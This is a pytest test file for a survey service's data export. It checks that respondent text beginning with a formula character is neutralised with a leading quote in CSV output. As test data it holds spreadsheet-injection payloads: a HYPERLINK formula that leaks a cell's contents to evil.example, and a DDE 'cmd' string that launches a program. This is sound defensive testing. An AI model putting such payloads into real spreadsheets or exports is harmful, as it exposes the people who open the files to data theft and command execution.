"""CSV formula injection: respondent text (free-text answers, the open ``area`` attribute)
that begins with a formula character reaches a CSV cell only behind a single quote, numeric
columns are never touched, and the typed formats carry the text as written."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from typing import Any

import pytest
from exports.export_shapes import cooperation_survey

from survey_service.instruments import bundled
from survey_service.services.exports.formats import encode_csv
from survey_service.services.exports.formats.csv import neutralise
from survey_service.services.exports.layout import layout

from helpers import answers_for, bearer, close_survey, submit

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: Areas respondents type in (the survey gives no list): five respondents each, so that the
#: area is released. (The API refuses control characters in an area, so no tab here.)
AREAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+Sentrum",
    "-Nord",
    "-2+3",
    "'=allerede sitert",
    "Vest",
)
FREE_TEXTS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=allerede sitert",
    "Godt samarbeid.",
)


def expected_cell(typed: str) -> str:
    stored = typed.strip()
    return "'" + stored if stored.startswith((*DANGEROUS, "'")) else stored


@pytest.fixture
def hostile(admin: str, client: Any) -> None:
    survey = cooperation_survey(client, admin, respondent_attributes={"area": None})
    n = 0
    for area in AREAS:
        for i in range(5):
            answers = answers_for("partssamarbeid", 1 + i, forventninger=FREE_TEXTS[n % 9])
            if i == 0:
                answers["fm_1"] = "dont_know"  # -1, a negative number in a numeric column
            response = submit(
                client,
                survey,
                answers,
                respondent={"role": "employee", "area": area},
                language="nb",
            )
            assert response.status_code == 201, response.get_json()
            n += 1
    close_survey(client, admin, survey)


def _get(client: Any, key: str, **params: Any) -> Any:
    response = client.get(
        "/api/v1/exports/responses",
        query_string={"instrument": "partssamarbeid", "include_free_text": "true", **params},
        headers=bearer(key),
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    data = response.get_data()
    response.close()
    return data


def _column_types(client: Any, key: str) -> dict[str, str]:
    book = client.get(
        "/api/v1/exports/codebook",
        query_string={"instrument": "partssamarbeid", "include_free_text": "true"},
        headers=bearer(key),
    ).get_json()
    return {c["name"]: c["type"] for c in book["columns"]}


def test_csv_cells_never_start_with_a_formula_character(hostile, admin, client):
    data = _get(client, admin, format="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 5 * len(AREAS)
    types = _column_types(client, admin)
    text = [i for i, name in enumerate(header) if types[name] in ("string", "category")]
    numeric = [i for i, name in enumerate(header) if types[name] in ("integer", "number")]
    assert header.index("area") in text and header.index("forventninger") in text
    for row in body:
        for i in text:
            assert not row[i].startswith(DANGEROUS), (header[i], row[i])
        # numbers stay numbers: a negative one too
        for i in numeric:
            if row[i]:
                float(row[i])  # raises if a quote had been put in front
    areas = Counter(row[header.index("area")] for row in body)
    assert areas == Counter({expected_cell(a): 5 for a in AREAS})
    texts = {row[header.index("forventninger")] for row in body}
    assert texts == {expected_cell(t) for t in FREE_TEXTS}
    assert "'=cmd|' /C calc'!A0" in texts and "Godt samarbeid." in texts
    # Don't know is empty, and its indicator 1 (no negative code in CSV).
    assert Counter(row[header.index("fm_1_dont_know")] for row in body)["1"] == len(AREAS)


def test_csv_escaping_undone_by_the_codebook_rule_gives_the_typed_values(hostile, admin, client):
    """Removing the first character of every text cell that begins with a single quote (the
    codebook's rule) gives back exactly what JSON Lines carries, for every column."""
    types = _column_types(client, admin)
    data = _get(client, admin, format="csv")
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))

    def undo(name: str, cell: str) -> Any:
        if cell == "":
            return None
        if types[name] in ("integer", "number"):
            return float(cell)
        return cell[1:] if cell.startswith("'") else cell

    def key(record: dict[str, Any]) -> tuple[Any, ...]:
        return tuple((name, record[name]) for name in sorted(record) if name != "row_id")

    from_csv = Counter(key({n: undo(n, c) for n, c in row.items()}) for row in reader)
    lines = _get(client, admin, format="jsonl").decode("utf-8").splitlines()
    typed = [json.loads(line) for line in lines]
    for record in typed:
        for name, value in record.items():
            if types[name] in ("integer", "number") and value is not None:
                record[name] = float(value)
    assert from_csv == Counter(key(r) for r in typed)
    # the typed format has the text as respondents wrote it (trimmed), no quote added
    assert {r["area"] for r in typed} == {a.strip() for a in AREAS}


def test_codebook_explains_csv_escaping_in_every_form(client, analyst):
    params = {"instrument": "partssamarbeid"}
    book = client.get("/api/v1/exports/codebook", query_string=params, headers=bearer(analyst))
    formats = book.get_json()["formats"]
    assert set(formats) == {"csv", "jsonl", "parquet", "sav"}
    assert "single quote" in formats["csv"] and "remove the first character" in formats["csv"]
    for typed in ("jsonl", "parquet", "sav"):
        assert "no quote" in formats[typed]
    package = json.loads(
        client.get(
            "/api/v1/exports/codebook",
            query_string={**params, "format": "datapackage"},
            headers=bearer(analyst),
        ).data
    )
    assert "remove the first character" in package["resources"][0]["description"]
    assert package["x-codebook"]["formats"] == formats
    text = client.get(
        "/api/v1/exports/codebook",
        query_string={**params, "format": "markdown"},
        headers=bearer(analyst),
    ).get_data(as_text=True)
    assert "## File formats" in text and "remove the first character" in text


def test_encoder_neutralises_text_cells_only():
    """Tabs and carriage returns never get past the API's trimming; the encoder handles them
    anyway, and leaves numbers (also negative ones) alone."""
    assert [neutralise(c + "x") for c in DANGEROUS] == ["'" + c + "x" for c in DANGEROUS]
    assert neutralise("'x") == "''x" and neutralise("x=1") == "x=1" and neutralise("") == ""
    export_layout = layout(bundled("samlingsevaluering"), attributes=["area"], free_text=True)
    names = export_layout.names
    values: dict[str, Any] = dict.fromkeys(names)
    values.update(row_id=1, period="-2026", terningkast=-1, score_terningkast=-12.5)
    rows = []
    for c in DANGEROUS:
        rows.append([{**values, "area": c + "A", "viktigste_laerdom": c + "B"}[n] for n in names])
    data = b"".join(encode_csv(export_layout, rows)).decode("utf-8")
    read = list(csv.DictReader(io.StringIO(data, newline="")))
    assert [(r["area"], r["viktigste_laerdom"]) for r in read] == [
        ("'" + c + "A", "'" + c + "B") for c in DANGEROUS
    ]
    assert {(r["period"], r["terningkast"], r["score_terningkast"]) for r in read} == {
        ("'-2026", "-1", "-12.5")
    }
